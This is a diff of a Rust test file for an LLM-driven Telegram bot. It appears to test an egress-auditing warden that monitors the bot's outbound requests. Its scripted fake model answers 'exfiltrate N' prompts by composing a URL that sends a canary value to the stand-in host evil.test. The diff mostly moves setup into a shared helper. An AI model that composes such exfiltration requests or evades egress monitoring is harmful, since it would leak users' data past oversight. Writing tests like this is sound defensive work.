@@ -8,14 +8,12 @@
 mod support;
 
 use serde_json::{json, Value};
-use std::time::Duration;
-use support::fake_llm::{FakeLlm, Request, Turn};
-use support::fake_telegram::{FakeTelegram, Sent};
-use support::fake_web::FakeWeb;
-use support::warden_bot::{BotEnv, BotProcess, OWNER, TOKEN};
+use support::fake_llm::{Request, Turn};
+use support::fake_telegram::Sent;
+use support::warden_bot::OWNER;
 use support::warden_run::{audit_rows, warden};
+use support::web_bot::{WebBot, WAIT};
 
-const WAIT: Duration = Duration::from_secs(30);
 const CANARY: &str = "canary-b07c4e";
 
 /// The URL the model composes for a prompt ending in `exfiltrate N`.
@@ -23,33 +21,10 @@ fn composed(n: &str) -> String {
     format!("http://evil.test/collect?d={CANARY}-{n}&note=hello%20world")
 }
 
-fn has_text(message: &Value) -> bool {
-    message["content"]
-        .as_array()
-        .is_some_and(|blocks| blocks.iter().any(|b| b["type"] == "text"))
-}
-
-fn is_results(message: &Value) -> bool {
-    message["content"]
-        .as_array()
-        .is_some_and(|blocks| blocks.iter().any(|b| b["type"] == "tool_result"))
-}
-
 /// `[read URL then] exfiltrate N`: fetch URL (the user's), then the composed URL, then report
 /// the last result as `result: …`.
 fn script(req: &Request) -> Turn {
-    let messages = req.messages();
-    let at = messages
-        .iter()
-        .rposition(|m| m["role"] == "user" && has_text(m) && !is_results(m))
-        .expect("a prompt");
-    let prompt: String = messages[at]["content"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .filter_map(|b| b["text"].as_str())
-        .collect();
-    let step = messages[at + 1..].iter().filter(|m| is_results(m)).count();
+    let (prompt, step) = req.prompt_and_step();
     let mut plan = Vec::new();
     if let Some(rest) = prompt.split("read ").nth(1) {
         plan.push(rest.split_whitespace().next().unwrap().to_string());
@@ -71,28 +46,19 @@ fn script(req: &Request) -> Turn {
 }
 
 struct Setup {
-    tg: FakeTelegram,
-    web: FakeWeb,
-    _llm: FakeLlm,
-    _bot: BotProcess,
-    home: tempfile::TempDir,
+    bot: WebBot,
 }
 
 async fn start() -> Setup {
-    let tg = FakeTelegram::start(TOKEN).await;
-    let llm = FakeLlm::anthropic_with(script).await;
-    let web = FakeWeb::start().await;
-    let home = tempfile::tempdir().unwrap();
-    let env = BotEnv::new(home.path(), tg.api_url(), llm.base_url());
-    env.write_config(&web.resolve_toml());
-    let bot = BotProcess::start(&env);
-    tg.wait_for_calls("getUpdates", 1, WAIT).await;
     Setup {
-        tg,
-        web,
-        _llm: llm,
-        _bot: bot,
-        home,
+        bot: WebBot::start(script).await,
+    }
+}
+
+impl std::ops::Deref for Setup {
+    type Target = WebBot;
+    fn deref(&self) -> &WebBot {
+        &self.bot
     }
 }
 
@@ -110,19 +76,8 @@ impl Setup {
         self.tg.press(OWNER, request, row, index);
     }
 
-    /// The `n`-th answer (from 1).
     async fn answer(&self, n: usize) -> String {
-        let answers = |t: &FakeTelegram| -> Vec<String> {
-            t.messages_to(OWNER)
-                .into_iter()
-                .filter(|m| m.visible.starts_with("result:"))
-                .map(|m| m.visible)
-                .collect()
-        };
-        self.tg
-            .wait_until("the answer", WAIT, |t| answers(t).len() >= n)
-            .await;
-        answers(&self.tg)[n - 1].clone()
+        self.bot.answer(n).await
     }
 
     /// The egress audit rows: (decision, input).
